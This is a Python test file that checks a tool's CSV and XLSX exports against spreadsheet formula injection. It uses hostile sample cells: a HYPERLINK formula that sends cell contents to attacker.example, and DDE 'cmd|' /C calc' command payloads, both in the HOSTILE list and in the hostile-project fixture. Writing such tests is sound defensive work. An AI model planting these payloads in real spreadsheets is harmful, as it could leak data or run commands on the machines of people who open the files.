"""Spreadsheet formula injection (issue 16): every CSV and XLSX themeassist writes is safe to
open in Excel or LibreOffice, and reading our own files back gives the original text."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from themeassist import io
from themeassist.cli import app

FIX = Path(__file__).resolve().parent / "fixtures" / "stats"
HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A2)", "\tTab first", "\rCR first", "'tis a real apostrophe", "''two quotes",
           "'=quoted formula", "plain text", "-", "-3", "+1.5e3", "", "naïve café ☕"]
DANGEROUS = tuple("=+-@\t\r")


def _frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({"text": HOSTILE, "count": [-(i + 1) for i in range(n)],
                         "share": [-0.5 + i for i in range(n)]})


def _is_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in DANGEROUS and not io._PLAIN_NUMBER.match(cell)


def test_csv_cells_are_neutralised_and_read_back_exactly(tmp_path):
    df = _frame()
    path = io.write_table(df, tmp_path / "t.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [r[0] for r in rows[1:]]
    assert not [c for c in cells if _is_formula(c)]            # nothing a spreadsheet runs
    assert cells[0] == "'" + HOSTILE[0] and cells[6] == "''tis a real apostrophe"
    assert cells[HOSTILE.index("-3")] == "-3"                  # a number stays a number
    # Our reader restores the text exactly; pandas sees the negative numbers as numbers.
    assert io.read_table(path)["text"].tolist() == HOSTILE
    typed = io.read_csv_typed(path)
    assert typed["count"].tolist() == df["count"].tolist()
    assert typed["share"].tolist() == df["share"].tolist()
    raw = pd.read_csv(path, keep_default_na=False)
    assert pd.api.types.is_integer_dtype(raw["count"]) and raw["count"].min() < 0
    assert raw["text"].iat[0].startswith("'=")


def test_a_users_own_apostrophes_are_left_alone(tmp_path):
    p = tmp_path / "user.csv"
    p.write_text("text\n'tis\n'90s music\nit's\n", encoding="utf-8")
    assert io.read_table(p)["text"].tolist() == ["'tis", "'90s music", "it's"]


def test_xlsx_text_is_stored_as_strings_never_formulas(tmp_path):
    df = _frame()
    path = io.write_table(df, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(path).active
    texts = [c for c in ws["A"][1:]]
    assert [c.value or "" for c in texts] == HOSTILE
    assert {c.data_type for c in texts if c.value} == {"s"}
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # Excel's own marker for text typed with a leading apostrophe.
    assert all(c.quotePrefix for c in texts if c.value and c.value[0] in DANGEROUS)
    counts = [c for c in ws["B"][1:]]
    assert {c.data_type for c in counts} == {"n"} and counts[0].value == -1
    back = pd.read_excel(path, keep_default_na=False)
    assert back["text"].tolist() == HOSTILE and back["count"].tolist() == df["count"].tolist()
    assert io.read_table(path)["text"].tolist() == HOSTILE


def test_themeassist_reads_its_own_xlsx_segments_back(tmp_path, tiny_segments):
    seg = tiny_segments.assign(text=["=1+1", "@mention", "-dash", "+plus", "=A1*2", "ok"])
    path = io.write_table(seg, tmp_path / "seg.xlsx")
    back = io.read_segments(path)        # used to fail: "empty text" (formulas, no value)
    assert back["text"].tolist() == seg["text"].tolist()


def test_header_cells_are_neutralised_too(tmp_path):
    df = pd.DataFrame({"theme \\ theme": ["a"], "=evil": [1]})
    path = io.write_table(df, tmp_path / "confusion.csv")
    assert path.read_text(encoding="utf-8").splitlines()[0] == "theme \\ theme,'=evil"
    assert list(io.read_table(path).columns) == ["theme \\ theme", "=evil"]


def _hostile_project(tmp_path) -> tuple[Path, Path, Path]:
    """The stats fixture with a formula as a theme and formulas in the quotes."""
    evil = '=HYPERLINK("http://attacker.example","Funding")'
    book = pd.read_csv(FIX / "codebook.csv", dtype=str).replace("Funding", evil)
    cod = pd.read_csv(FIX / "human.csv", dtype=str).replace("Funding", evil)
    seg = pd.read_csv(FIX / "segments.csv", dtype=str)
    seg["text"] = "=cmd|' /C calc'!A0 " + seg["text"]
    paths = tmp_path / "codebook.csv", tmp_path / "human.csv", tmp_path / "segments.csv"
    for df, p in zip((book, cod, seg), paths):
        df.to_csv(p, index=False)
    return paths


def test_every_csv_stats_writes_is_safe_and_reads_back(tmp_path):
    book, cod, seg = _hostile_project(tmp_path)
    out = tmp_path / "res"
    res = CliRunner().invoke(app, ["stats", "-c", str(cod), "-b", str(book), "-s", str(seg),
                                   "-o", str(out), "--no-figures"])
    assert res.exit_code == 0, res.output
    written = sorted(out.rglob("*.csv"))
    assert {p.name for p in written} >= {"theme_counts.csv", "top_subthemes.csv", "appendix.csv"}
    for p in written:
        with open(p, newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells if _is_formula(c)], p.name
    counts = io.read_table(out / "theme_counts.csv")
    assert counts["theme"].str.startswith("=HYPERLINK").any()
    top = io.read_table(out / "top_subthemes.csv")
    assert top["quotes"].str.contains("=cmd").any()


def test_disagreements_csv_is_safe(tmp_path):
    fix = FIX.parent / "agree"
    hum = pd.read_csv(fix / "human.csv", dtype=str, keep_default_na=False)
    mac = pd.read_csv(fix / "machine.csv", dtype=str, keep_default_na=False)
    seg = pd.read_csv(fix / "segments.csv", dtype=str, keep_default_na=False)
    seg["text"] = "@" + seg["text"]
    for df, name in ((hum, "h.csv"), (mac, "m.csv"), (seg, "s.csv")):
        df.to_csv(tmp_path / name, index=False)
    out = tmp_path / "agree"
    res = CliRunner().invoke(app, ["agree", "-c", str(tmp_path / "h.csv"), "-c",
                                   str(tmp_path / "m.csv"), "-s", str(tmp_path / "s.csv"),
                                   "-o", str(out)])
    assert res.exit_code == 0, res.output
    path = out / "disagreements.csv"
    if not path.exists():
        pytest.skip("this fixture has no disagreements table")
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if _is_formula(c)]
    assert any(c.startswith("'@") for c in cells)
